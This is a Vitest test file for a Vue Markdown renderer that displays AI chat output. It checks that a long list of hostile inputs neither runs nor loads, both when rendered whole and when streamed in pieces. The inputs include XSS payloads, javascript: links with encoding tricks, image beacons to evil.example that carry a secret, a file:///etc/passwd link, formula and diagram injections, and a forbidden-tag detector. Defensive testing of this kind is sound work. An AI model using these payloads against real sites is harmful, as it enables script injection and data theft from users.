import { flushPromises } from '@vue/test-utils'
import { mountSuspended } from '@nuxt/test-utils/runtime'
import { afterEach, expect, test, vi } from 'vitest'
import { plainTextKey } from '../../../components/conversation/markdown/keys.ts'
import MarkdownPlain from '../../../components/conversation/markdown/MarkdownPlain.vue'
import MarkdownRenderer from '../../../components/conversation/markdown/MarkdownRenderer.vue'
import { colourCode, type ColourAnswer, type ColourRequest } from '../../../utils/colour-code.ts'
import { markdownBlocks } from '../../../utils/markdown-blocks.ts'

/** What a hostile model may write. Each must neither run, nor load, nor lead anywhere but http, https or mail. */
const hostile: [name: string, markdown: string][] = [
  ['a script', 'a <script>alert(1)</script> b'],
  ['a script block', '<script>\nalert(1)\n</script>'],
  ['a picture with a handler', '<img src=x onerror=alert(1)>'],
  ['a picture in HTML', 'x <img src="https://evil.example/a.png"> y'],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['a frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object and an embed', '<object data="https://evil.example"></object><embed src="https://evil.example">'],
  ['a style', '<style>body{background:url(https://evil.example/s)}</style>'],
  ['a style attribute', '<p style="background:url(https://evil.example/p)">x</p>'],
  ['a stylesheet', '<link rel="stylesheet" href="https://evil.example/s.css">'],
  ['a base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a form', '<form action="https://evil.example"><input name=a><button>go</button></form>'],
  ['SVG with script', '<svg onload=alert(1)><script>alert(1)</script><image href="https://evil.example/i.png"/></svg>'],
  ['MathML', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ['video and audio', '<video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video><audio src="https://evil.example/a"></audio>'],
  ['a picture', '![secret](https://evil.example/x.png?q=secret)'],
  ['a picture without a scheme', '![secret](//evil.example/x.png)'],
  ['a picture by reference', '![secret][ref]\n\n[ref]: https://evil.example/ref.png'],
  ['a picture by short reference', '![secret]\n\n[secret]: https://evil.example/ref.png'],
  ['a picture in a link', '[![x](https://evil.example/x.png)](https://evil.example)'],
  ['a picture in a table', '| a |\n|---|\n| ![x](https://evil.example/x.png) |'],
  ['a picture in a list in a quote', '> - ![x](https://evil.example/x.png)'],
  ['a picture in a heading', '# ![x](https://evil.example/x.png)'],
  ['a picture in a footnote', 'a[^1]\n\n[^1]: ![x](https://evil.example/x.png)'],
  ['a data picture', '![x](data:image/png;base64,AAAA)'],
  ['an SVG data picture', '![x](data:image/svg+xml,<svg onload=alert(1)>)'],
  ['a javascript link', '[x](javascript:alert(1))'],
  ['a javascript link in other letters', '[x](JaVaScRiPt:alert(1))'],
  ['a javascript link with entities', '[x](&#106;avascript:alert(1))'],
  ['a javascript link with a tab', '[x](java\tscript:alert(1))'],
  ['a javascript link by reference', '[x][r]\n\n[r]: javascript:alert(1)'],
  ['a javascript autolink', '<javascript:alert(1)>'],
  ['a vbscript link', '[x](vbscript:msgbox(1))'],
  ['a data link', '[x](data:text/html,<script>alert(1)</script>)'],
  ['a blob link', '[x](blob:https://evil.example/1)'],
  ['a file link', '[x](file:///etc/passwd)'],
  ['a link into this site', '[x](/api/account)'],
  ['a title that breaks out', '[x](https://a.example "\\" onmouseover=\\"alert(1)")'],
  ['an alternative text that breaks out', '![" onerror="alert(1)](https://evil.example/x.png)'],
  ['a formula with a link', '$\\href{javascript:alert(1)}{x}$'],
  ['a formula with a picture', '$$\\includegraphics{https://evil.example/x.png}$$'],
  ['a formula with HTML', '$\\htmlData{a=b}{x}\\htmlStyle{background:url(https://evil.example)}{y}$'],
  ['a formula that swells', '$\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}}}$'],
  ['a diagram with a link', '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```'],
  ['a diagram with a picture', '```mermaid\nflowchart TD\nA@{ img: "https://evil.example/x.png" }\n```'],
  ['code named as a picture', '```image\nhttps://evil.example/x.png\n```'],
  ['code named as a link', '```link\njavascript:alert(1)\n```'],
  ['code named as HTML', '```html\n<script>alert(1)</script><img src=https://evil.example/x>\n```'],
  ['code named as HTML block', '```html_block\n<img src=https://evil.example/x onerror=alert(1)>\n```'],
  ['a language that breaks out', '```"><img/src=x/onerror=alert(1)>\nx\n```'],
  ['a language that is a prototype word', '```constructor\nx\n```\n\n```__proto__\nx\n```'],
  ['code that is a diagram of another kind', '```infographic\n![x](https://evil.example/x.png)\n```\n\n```d2\nx: {icon: https://evil.example/x.png}\n```'],
  ['a component in a colon fence', '::: vmr\n<img src=https://evil.example/x>\n:::'],
  ['half a picture', '![x](https://evil.example/x.pn'],
  ['half a tag', 'x <img src=https://evil.example/x onerr'],
]

const forbiddenTags = 'script, iframe, object, embed, style, link, base, meta, form, input:not([type=checkbox]), video, audio, source, image, frame, template'
const loading = ['src', 'srcset', 'poster', 'data', 'action', 'formaction', 'background', 'srcdoc', 'ping', 'xlink:href']

/** What is wrong with one attribute; null when nothing is. Our own drawings of diagrams are blobs this page made. */
function attributeFault(name: string, value: string): string | null {
  if (name.startsWith('on')) return `handler ${name}`
  if (loading.includes(name) && !value.startsWith('blob:')) return `${name}=${value}`
  if (name === 'style' && /url\(|@import|expression/i.test(value)) return `style ${value}`
  return name === 'href' && !/^(https?:|mailto:)/.test(value) ? `href ${value}` : null
}

const keepsHold = (link: Element) => link.getAttribute('target') !== '_blank' || !link.getAttribute('rel')?.includes('noopener')

/** Everything on the page that must not be there. */
function faults(root: Element): string[] {
  return [
    ...[...root.querySelectorAll(forbiddenTags)].map(element => `tag ${element.tagName}`),
    ...[...root.querySelectorAll('*')].flatMap(element => [...element.attributes].map(({ name, value }) => attributeFault(name, value)).filter(fault => fault !== null)),
    ...[...root.querySelectorAll('a[href]')].filter(keepsHold).map(link => `${link.outerHTML} keeps hold of us`),
  ]
}

async function render(text: string, streaming = false) {
  const page = await mountSuspended(MarkdownRenderer, { props: { text, streaming } })
  await flushPromises()
  return page
}
/** Here is no second thread: what it would do is done by the first. */
vi.stubGlobal('Worker', class {
  onmessage?: (event: { data: ColourAnswer }) => void
  postMessage(request: ColourRequest) {
    void colourCode(structuredClone(request)).then((data) => { this.onmessage?.({ data: structuredClone(data) }) })
  }
})
const alert = vi.fn()
vi.stubGlobal('alert', alert)
afterEach(() => expect(alert).not.toHaveBeenCalled())

test.each(hostile)('%s neither runs nor loads', async (_, markdown) => {
  const page = await render(markdown)
  expect(faults(page.element.parentElement ?? page.element)).toEqual([])
  page.unmount()
})

test.each(hostile)('%s neither runs nor loads while it arrives in pieces', async (_, markdown) => {
  const page = await render('', true)
  for (let end = 1; end <= markdown.length; end += end < 12 ? 1 : 5) {
    await page.setProps({ text: markdown.slice(0, end), streaming: false })
    await page.setProps({ text: markdown.slice(0, end), streaming: true })
    expect(faults(page.element.parentElement ?? page.element)).toEqual([])
  }
  await page.setProps({ text: markdown, streaming: false })
  await flushPromises()
  expect(faults(page.element.parentElement ?? page.element)).toEqual([])
  page.unmount()
})

const drawnOf = async (text: string) => {
  const page = await render(text)
  const element = page.element.parentElement ?? page.element
  // Code gets its colours a moment later.
  await vi.waitFor(() => expect([...element.querySelectorAll('figure')].filter(code => code.textContent.startsWith('js') && !code.innerHTML.includes('--light'))).toEqual([]))
  const drawn = [...element.querySelectorAll('.markdown-block > *')].map(element => element.outerHTML.replace(/<!--.*?-->/g, ''))
  page.unmount()
  return drawn
}

test('a long text drawn in pieces looks as drawn in one', async () => {
  const prose = 'A sentence that is here to be long enough. '.repeat(20)
  const pieces = ['# Heading', '- a\n- b\n\n  more of b\n- c', '```js\nlet x\n\nlet y\n```', '| a | b |\n|---|---|\n| 1 | 2 |', '> a quote\n\n> more of it', '$$\na^2\n$$', '1. one\n\n2. two', '**Bold** and `code`', 'a\n***\nb', '***', 'Title\n===', '中文段落。', '    indented code']
  const text = pieces.flatMap((piece, at) => [piece, prose, pieces[(at * 5 + 3) % pieces.length]]).join('\n\n')
  const blocks = markdownBlocks(text)
  expect(blocks.length).toBeGreaterThan(8)
  const inPieces: string[] = []
  for (const block of blocks) inPieces.push(...await drawnOf(block))
  expect(inPieces).toEqual(await drawnOf(text))
})

test('words that stand stay the same piece of the page while the text grows, so that a selection holds', async () => {
  const page = await render('')
  const markdown = `A paragraph with **bold words**, \`code\` and *more*.\n\n- an item\n- another\n\n| one | two |\n|---|---|\n| three | four |\n\n> a quote\n\n## A heading\n\n\`\`\`text\nplain\n\`\`\`\n\n${'The last paragraph. '.repeat(3)}`
  const words = ['A paragraph', 'bold', 'more', 'an item', 'three', 'a quote', 'A heading', 'The last']
  const root = page.element.parentElement ?? page.element
  const textWith = (word: string) => {
    const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT)
    while (walker.nextNode()) if (walker.currentNode.nodeValue?.includes(word)) return walker.currentNode
    return undefined
  }
  const held = new Map<string, Node | undefined>()
  for (let end = 1; end <= markdown.length + 1; end++) {
    await page.setProps({ text: markdown.slice(0, end), streaming: end <= markdown.length })
    // A word is held on to a few letters later, once it is known what it belongs to.
    for (const word of words) if (end === markdown.indexOf(word) + word.length + 8) held.set(word, textWith(word))
  }
  for (const word of words) {
    expect(held.get(word), word).toBeDefined()
    expect(textWith(word), word).toBe(held.get(word))
  }
  expect(page.get('p').text()).toBe('A paragraph with bold words, code and more.')
  expect(page.get('pre').text()).toBe('plain')
  page.unmount()
})

test('a picture becomes a link that names where it would come from', async () => {
  const page = await render('![A cat](https://pictures.example.org/cat.png)')
  const link = page.get('a')
  expect(link.text()).toBe('A cat (image from pictures.example.org)')
  expect(link.attributes()).toMatchObject({ href: 'https://pictures.example.org/cat.png', target: '_blank', rel: expect.stringContaining('noreferrer') })
  page.unmount()
})

test('HTML is shown as it was written', async () => {
  const page = await render('Use `Array<T>` or Array<T> and <b>bold</b>.')
  expect(page.text()).toContain('Array<T> or Array<T> and <b>bold</b>.')
  page.unmount()
})

test('code keeps every character and can be copied', async () => {
  const code = 'if (a < b && c) {\n\treturn "<T>"  \n}\n\nend'
  const page = await render(`\`\`\`ts\n${code}\n\`\`\``)
  expect(page.get('pre').element.textContent).toBe(code)
  expect(page.text()).toContain('Copy')
  page.unmount()
})

test('code that grows keeps its colours and every character', async () => {
  const code = 'const answer = await ask({ model })\nreturn answer // whatever it is'
  const page = await render('```ts\n', true)
  for (let end = 1; end <= code.length; end++) {
    await page.setProps({ text: `\`\`\`ts\n${code.slice(0, end)}` })
    expect(page.get('pre').element.textContent).toBe(code.slice(0, end).replace(/\n$/, ''))
    if (end === 20) await vi.waitFor(() => expect(page.get('pre').html()).toContain('--light'))
    if (end > 20) expect(page.get('pre .line').html()).toContain('--light')
  }
  await vi.waitFor(() => expect(page.findAll('pre .line').at(-1)?.findAll('span').at(-1)?.attributes('style')).toContain('--light'))
  page.unmount()
})

test('a block of code is shown whatever its language is called', async () => {
  const page = await render('```constructor\none\n```\n\n```__proto__\ntwo\n```\n\n```image\nthree\n```\n\n```toString\nfour\n```')
  expect(page.findAll('pre').map(pre => pre.text())).toEqual(['one', 'two', 'three', 'four'])
  page.unmount()
})

test('unformatted, a text is no higher by the empty lines at its end', async () => {
  const page = await mountSuspended(MarkdownPlain, { global: { provide: { [plainTextKey as symbol]: () => 'Let me draw that.\n\n' } } })
  expect(page.element.textContent).toBe('Let me draw that.')
  page.unmount()
})

test('a further piece of Markdown has nothing drawn anew that stands on the page', async () => {
  const watched = { global: { config: { performance: true } } }
  const first = await mountSuspended(MarkdownRenderer, { ...watched, props: { text: 'Some *words* and a [link](https://example.org).\n\n- a point', streaming: false } })
  await flushPromises()
  const measured = vi.spyOn(window.performance, 'measure')
  const second = await mountSuspended(MarkdownRenderer, { ...watched, props: { text: 'More *words*.', streaming: false } })
  await flushPromises()
  // Vue says what it draws: once for each component that comes, and once more for each that is drawn anew.
  const seen = measured.mock.calls.map(([name]) => name)
  measured.mockRestore()
  const parts = (of: string) => seen.filter(name => name.endsWith(` ${of}`)).length
  expect(parts('mount')).toBeGreaterThan(3)
  // The frame that tests are mounted in settles once.
  expect(parts('render') - parts('mount')).toBeLessThanOrEqual(1)
  first.unmount()
  second.unmount()
})

test('a large diagram stands there as its source until it is asked for', async () => {
  const source = `flowchart TD\n${Array.from({ length: 300 }, (_, at) => `s${at} --> s${at + 1}`).join('\n')}`
  const page = await render(`\`\`\`mermaid\n${source}\n\`\`\``)
  expect(page.get('pre').element.textContent).toBe(source)
  const draw = page.findAll('button').find(button => button.text() === 'Draw this large diagram')
  await draw?.trigger('click')
  expect(page.find('pre').exists()).toBe(false)
  expect(page.text()).toContain('Source')
  page.unmount()
})

test('footnotes are text, so that those of two messages are not mixed up', async () => {
  const page = await render('Water[^1] boils.\n\n[^1]: At 100 degrees.')
  expect(page.text().replace(/\s+/g, ' ')).toBe('Water[1] boils.[1]At 100 degrees.')
  expect(page.find('a, [id]').exists()).toBe(false)
  page.unmount()
})

test('headings stand below the page’s own', async () => {
  const page = await render('# One\n\n## Two')
  expect(page.find('h1, h2').exists()).toBe(false)
  expect(page.get('h3').text()).toBe('One')
  page.unmount()
})

test('a difference in code is shown with what goes away', async () => {
  const page = await render('```diff\n-old\n+new\n kept\n```')
  expect(page.get('pre').element.textContent).toBe('-old\n+new\n kept')
  expect(page.get('figcaption').text()).toContain('diff')
  page.unmount()
})

test('a number in brackets stays as it was written, and a table has nothing in it that nobody wrote', async () => {
  const page = await render('As said [1].\n\n| a | b |\n|:--|--:|\n| 1 | **2** |')
  expect(page.get('p').text()).toBe('As said [1].')
  expect(page.find('button, [role=button]').exists()).toBe(false)
  expect(page.findAll('th, td').map(cell => cell.text())).toEqual(['a', 'b', '1', '2'])
  // Wider than the page, it scrolls: by keys as well.
  expect(page.get('table').element.parentElement?.tabIndex).toBe(0)
  page.unmount()
})

test('lists keep their numbers, their steps and their boxes', async () => {
  const page = await render('3. three\n4. four\n   - below\n\n- [x] done\n- [ ] to do')
  expect(page.get('ol').attributes('start')).toBe('3')
  expect(page.get('ol ul li').text()).toBe('below')
  expect(page.findAll('[role=img]').map(box => box.attributes('aria-label'))).toEqual(['Done', 'To do'])
  page.unmount()
})
